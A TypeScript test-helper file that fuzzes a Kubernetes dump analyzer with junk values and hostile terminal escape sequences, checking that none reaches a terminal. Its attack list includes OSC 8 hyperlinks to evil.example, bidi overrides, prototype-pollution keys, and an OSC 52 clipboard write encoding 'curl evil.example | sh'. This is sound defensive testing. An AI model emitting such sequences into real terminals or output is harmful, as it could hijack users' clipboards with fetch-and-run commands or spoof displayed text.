// Shared pieces for the hardening tests: realistic seed objects, hostile values, and the byte checks.
import fc from 'fast-check';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { parseDumpText } from '../../src/sources/parse-dump-text.js';
import { at, conditions, containerStatus, event, node, obj, pod } from '../harness/builders.js';

export const ROOT = resolve(import.meta.dirname, '../..');

/** C0 and C1 controls except \n and \t, DEL, and the bidi overrides/isolates: none may reach a terminal. */
export const TERMINAL_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** The first unsafe character of `text` and where it is, for a readable assertion message. */
export function unsafeAt(text: string): string | undefined {
  const m = TERMINAL_UNSAFE.exec(text);
  if (!m) return undefined;
  return `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`;
}

/** Escape sequences and controls a hostile cluster can put in any string field. */
export const TERMINAL_ATTACKS = [
  '\u001b[2J\u001b[H', // clear screen, cursor home
  '\u001b[31mRED\u001b[0m', // SGR colour
  '\u001b]8;;https://evil.example/\u0007click me\u001b]8;;\u0007', // OSC 8 hyperlink (BEL-terminated)
  '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\', // OSC 8 (ST-terminated)
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007', // OSC 52: write the clipboard
  '\u001b]0;pwned title\u001b\\', // OSC 0: window title
  '\u001bP+q544e\u001b\\', // DCS request
  '\u001bc', // RIS: full reset
  '\u009b31m', // C1 CSI
  '\u009d0;c1 title\u009c', // C1 OSC ... ST
  '\u0085', // NEL
  '\u202e', // RIGHT-TO-LEFT OVERRIDE
  '\u2066isolated\u2069', // bidi isolate
  'visible\rOVERWRITE', // carriage return
  'bell\u0007back\u0008del\u007f',
  '\u001b', // a lone ESC
  '\u001b[', // a truncated CSI at the end of a string
];
export const ATTACK = TERMINAL_ATTACKS.join('');

/** Odd but legal Unicode: RTL text, zero-width characters, surrogate pairs, lone surrogates, NUL. */
export const ODD_UNICODE = [
  'مرحبا بالعالم',
  'a\u200bb\u200cc\u200dd\ufeffe',
  '😀👨‍👩‍👧‍👦🇺🇦',
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  'nul\u0000byte',
  '\u2028line\u2029para',
  'ﷺ'.repeat(50),
  'e\u0301\u0301\u0301\u0301\u0301',
  '',
  ' ',
  '\t\n',
];

const HUGE = 'x'.repeat(100 * 1024);
const HUGE_ATTACK = ATTACK.repeat(Math.ceil((100 * 1024) / ATTACK.length));

/** `{a:{a:…}}` or `[[…]]` nested `depth` levels, built without recursion. */
export function nested(depth: number, kind: 'object' | 'array', leaf: unknown = 1): unknown {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = kind === 'object' ? { a: v } : [v];
  return v;
}

/** An object whose own keys are prototype names (as JSON.parse makes them: own properties, not prototypes). */
function protoKeys(value: unknown): Record<string, unknown> {
  const o: Record<string, unknown> = {};
  for (const k of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf']) Object.defineProperty(o, k, { value, enumerable: true, writable: true, configurable: true });
  return o;
}

/** Strings that look like what the real components write, to steer rules into their matching paths. */
const PLAUSIBLE = [
  'CrashLoopBackOff', 'ImagePullBackOff', 'ErrImagePull', 'CreateContainerConfigError', 'OOMKilled', 'Error', 'Completed',
  'Running', 'Pending', 'Failed', 'Succeeded', 'Unknown', 'True', 'False', 'Ready', 'PodScheduled', 'Unschedulable',
  'FailedScheduling', 'FailedMount', 'BackOff', 'Unhealthy', 'FailedCreatePodSandBox', 'Evicted', 'NodeNotReady', 'FailedCreate',
  '0/3 nodes are available: 3 Insufficient cpu.', 'Back-off restarting failed container app in pod x', 'Liveness probe failed: HTTP probe failed with statuscode: 500',
  'Failed to pull image "x": rpc error: code = NotFound desc = failed to pull and unpack image "x": not found',
  'MountVolume.SetUp failed for volume "v" : configmap "c" not found', 'Always', 'IfNotPresent', 'Never', 'OnFailure',
  '2026-11-30T10:00:00Z', '2026-13-45T99:99:99Z', 'yesterday', '1970-01-01T00:00:00Z', '9999-12-31T23:59:59Z', '-1', '0', 'NaN', '100m', '1e309', 'Infinity',
];

/** Any junk a stranger's dump can hold where a field was expected. */
export const junk: fc.Arbitrary<unknown> = fc.oneof(
  { depthSize: 'small' },
  fc.constant(null),
  fc.constant(undefined),
  fc.boolean(),
  fc.integer(),
  fc.constantFrom(-1, 0, 2 ** 31, Number.MAX_SAFE_INTEGER, 1e308, -0, 0.5, Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
  fc.double(),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...PLAUSIBLE),
  fc.constantFrom(...ODD_UNICODE),
  fc.constantFrom(...TERMINAL_ATTACKS),
  fc.constantFrom(HUGE, HUGE_ATTACK),
  // Mostly below the reader's nesting limit (256), sometimes above it; structuredClone (in the test's own
  // copies) overflows near 2000, so deeper input is tested through text and the CLI instead.
  fc.oneof({ weight: 4, arbitrary: fc.integer({ min: 1, max: 250 }) }, { weight: 1, arbitrary: fc.integer({ min: 257, max: 1200 }) }).chain((d) => fc.constantFrom(nested(d, 'object'), nested(d, 'array'))),
  fc.constantFrom(protoKeys({ polluted: true }), protoKeys('x'), protoKeys(null), protoKeys([1, 2])),
  fc.array(fc.oneof(fc.constant(null), fc.integer(), fc.string({ maxLength: 10 }), fc.constant({}), fc.constant([])), { maxLength: 6 }),
  fc.dictionary(fc.oneof(fc.constantFrom('name', 'type', 'status', 'reason', 'message', 'kind', '__proto__', 'constructor', 'state', 'waiting'), fc.string({ maxLength: 8 })), fc.oneof(fc.constant(null), fc.integer(), fc.string({ maxLength: 10 }), fc.constant([])), { maxKeys: 5 }),
);

// ---------------------------------------------------------------------------------------------
// Seed objects: every fixture scenario, plus builder-made objects.

export interface Scenario {
  name: string;
  objects: unknown[];
}

function fixtureFiles(dir: string): string[] {
  const out: string[] = [];
  for (const e of readdirSync(dir)) {
    const p = join(dir, e);
    if (statSync(p).isDirectory()) out.push(...fixtureFiles(p));
    else if (/\.(ya?ml|json)$/.test(e)) out.push(p);
  }
  return out.sort();
}

function flatten(values: unknown[]): unknown[] {
  const out: unknown[] = [];
  for (const v of values) {
    const items = (v as { items?: unknown })?.items;
    if (Array.isArray(items)) out.push(...items.map((i) => (i && typeof i === 'object' && !(i as { kind?: unknown }).kind ? { ...i, kind: String((v as { kind?: string }).kind ?? '').replace(/List$/, '') } : i)));
    else out.push(v);
  }
  return out;
}

function builderScenario(): Scenario {
  const p = pod({
    status: {
      phase: 'Pending',
      conditions: conditions({ sandbox: true }),
      containerStatuses: [containerStatus({ waiting: { reason: 'CrashLoopBackOff', message: 'back-off 5m0s restarting failed container=app' }, restartCount: 7, lastTerminated: { exitCode: 137, reason: 'OOMKilled', startedAt: at(-120), finishedAt: at(-60) } })],
      initContainerStatuses: [containerStatus({ name: 'init', terminated: { exitCode: 0, reason: 'Completed' } })],
    },
    spec: { initContainers: [{ name: 'init', image: 'busybox' }], volumes: [{ name: 'data', persistentVolumeClaim: { claimName: 'data' } }, { name: 'cfg', configMap: { name: 'cfg' } }] },
    metadata: { ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'api-7d9f', controller: true, uid: 'rs-1' }] },
  });
  return {
    name: 'builders',
    objects: [
      p,
      node(),
      event(p, { reason: 'BackOff', message: 'Back-off restarting failed container app in pod api-7d9f-x2k_shop(uid)', count: 40 }),
      event(p, { reason: 'Unhealthy', message: 'Liveness probe failed: Get "http://10.0.0.1:8080/healthz": dial tcp 10.0.0.1:8080: connect: connection refused' }),
      event(p, { reason: 'FailedScheduling', message: '0/3 nodes are available: 1 node(s) had untolerated taint {node.kubernetes.io/disk-pressure: }, 2 Insufficient memory.', source: 'default-scheduler' }),
      obj('PersistentVolumeClaim', 'data', { spec: { storageClassName: 'fast', volumeName: 'pv-1' }, status: { phase: 'Pending' } }),
      obj('ReplicaSet', 'api-7d9f', { metadata: { ownerReferences: [{ kind: 'Deployment', name: 'api', controller: true }], annotations: { 'deployment.kubernetes.io/revision': '3' } }, spec: { replicas: 2 }, status: { replicas: 1 } }, 'apps/v1'),
      obj('Deployment', 'api', { spec: { replicas: 2 }, status: { conditions: [{ type: 'Progressing', status: 'False', reason: 'ProgressDeadlineExceeded' }] } }, 'apps/v1'),
      obj('Service', 'api', { spec: { selector: { app: 'api' }, ports: [{ port: 80, targetPort: 8080 }] } }),
      obj('ConfigMap', 'other', { data: { a: 'b' } }),
      obj('Job', 'migrate', { status: { failed: 6, conditions: [{ type: 'Failed', status: 'True', reason: 'BackoffLimitExceeded' }] } }, 'batch/v1'),
    ],
  };
}

/** Every fixture dump (one coherent scenario each) and a builder scenario that touches many kinds. */
export function loadScenarios(): Scenario[] {
  const scenarios = fixtureFiles(join(ROOT, 'fixtures')).map((file) => ({
    name: file.slice(ROOT.length + 1),
    objects: flatten(parseDumpText(readFileSync(file, 'utf8'), file).values),
  }));
  scenarios.push(builderScenario());
  return scenarios;
}

// ---------------------------------------------------------------------------------------------
// Mutations.

/** Paths the rules read most: mutations aim here half of the time. */
const HOT_PATHS = [
  ['status', 'containerStatuses'], ['status', 'initContainerStatuses'], ['status', 'ephemeralContainerStatuses'], ['status', 'conditions'],
  ['status', 'phase'], ['status', 'reason'], ['status', 'message'], ['spec', 'containers'], ['spec', 'initContainers'], ['spec', 'volumes'],
  ['spec', 'nodeName'], ['spec', 'tolerations'], ['spec', 'affinity'], ['spec', 'nodeSelector'], ['spec', 'taints'], ['spec', 'selector'],
  ['metadata'], ['metadata', 'name'], ['metadata', 'namespace'], ['metadata', 'uid'], ['metadata', 'ownerReferences'], ['metadata', 'labels'],
  ['metadata', 'annotations'], ['metadata', 'creationTimestamp'], ['metadata', 'deletionTimestamp'], ['involvedObject'], ['involvedObject', 'uid'],
  ['involvedObject', 'name'], ['involvedObject', 'kind'], ['regarding'], ['series'], ['count'], ['message'], ['reason'], ['type'], ['source'],
  ['lastTimestamp'], ['firstTimestamp'], ['eventTime'], ['kind'], ['apiVersion'], ['items'], ['spec'], ['status'], ['status', 'allocatable'],
  ['spec', 'replicas'], ['status', 'replicas'],
];

export type MutationOp = 'delete' | 'replace' | 'insert-junk' | 'wrap-array' | 'to-string' | 'to-object' | 'to-number' | 'proto';

export interface Mutation {
  target: number;
  path: { hot: number } | { any: number };
  op: MutationOp;
  value: unknown;
}

export const mutationArb: fc.Arbitrary<Mutation> = fc.record({
  target: fc.nat(),
  path: fc.oneof(fc.record({ hot: fc.nat() }), fc.record({ any: fc.nat() })),
  op: fc.constantFrom<MutationOp>('delete', 'replace', 'replace', 'insert-junk', 'wrap-array', 'to-string', 'to-object', 'to-number', 'proto'),
  value: junk,
});

type Container = Record<string | number, unknown>;

/** Every (container, key) pair in `root`, breadth first, bounded so huge or deep objects stay cheap. */
function slots(root: unknown, limit = 400): Array<[Container, string | number]> {
  const out: Array<[Container, string | number]> = [];
  const queue: Array<{ v: unknown; depth: number }> = [{ v: root, depth: 0 }];
  while (queue.length > 0 && out.length < limit) {
    const { v, depth } = queue.shift()!;
    if (!v || typeof v !== 'object' || depth > 10) continue;
    for (const k of Object.keys(v)) {
      out.push([v as Container, Array.isArray(v) ? Number(k) : k]);
      queue.push({ v: (v as Container)[k], depth: depth + 1 });
    }
  }
  return out;
}

function hotSlot(root: unknown, index: number): [Container, string] | undefined {
  const path = HOT_PATHS[index % HOT_PATHS.length]!;
  let v = root;
  for (let i = 0; i < path.length - 1; i++) {
    if (!v || typeof v !== 'object') return undefined;
    v = (v as Container)[path[i]!];
  }
  return v && typeof v === 'object' ? [v as Container, path[path.length - 1]!] : undefined;
}

function setOwn(c: Container, k: string | number, value: unknown): void {
  Object.defineProperty(c, k, { value, enumerable: true, writable: true, configurable: true });
}

/** Applies one mutation in place to one of `objects` (chosen by `target`). */
export function applyMutation(objects: unknown[], m: Mutation): void {
  if (objects.length === 0) return;
  const root = objects[m.target % objects.length];
  if (!root || typeof root !== 'object') return;
  let slot: [Container, string | number] | undefined;
  if ('hot' in m.path) slot = hotSlot(root, m.path.hot);
  if (!slot) {
    const all = slots(root);
    if (all.length === 0) return;
    slot = all[('any' in m.path ? m.path.any : m.path.hot) % all.length];
  }
  const [c, k] = slot!;
  const current = c[k];
  const value = clone(m.value); // junk constants are shared between runs: never insert them by reference
  switch (m.op) {
    case 'delete':
      if (Array.isArray(c) && typeof k === 'number') c.splice(k, 1);
      else delete c[k];
      return;
    case 'replace':
      return setOwn(c, k, value);
    case 'insert-junk':
      if (Array.isArray(current)) current.splice(current.length === 0 ? 0 : m.target % (current.length + 1), 0, value, null, 42, 'junk', [clone(value)]);
      else setOwn(c, k, [value, current, null]);
      return;
    case 'wrap-array':
      return setOwn(c, k, [current]);
    case 'to-string':
      return setOwn(c, k, typeof current === 'object' ? JSON.stringify(current) ?? 'undefined' : String(current));
    case 'to-object':
      return setOwn(c, k, { value: current, name: current, [String(k)]: current });
    case 'to-number':
      return setOwn(c, k, typeof current === 'string' ? current.length : Array.isArray(current) ? current.length : 7);
    case 'proto':
      return setOwn(c, k, protoKeys(current ?? value));
  }
}

/** A deep copy that keeps own `__proto__` keys as own keys (structuredClone does; JSON round trips would too). */
export function clone<T>(v: T): T {
  return structuredClone(v);
}
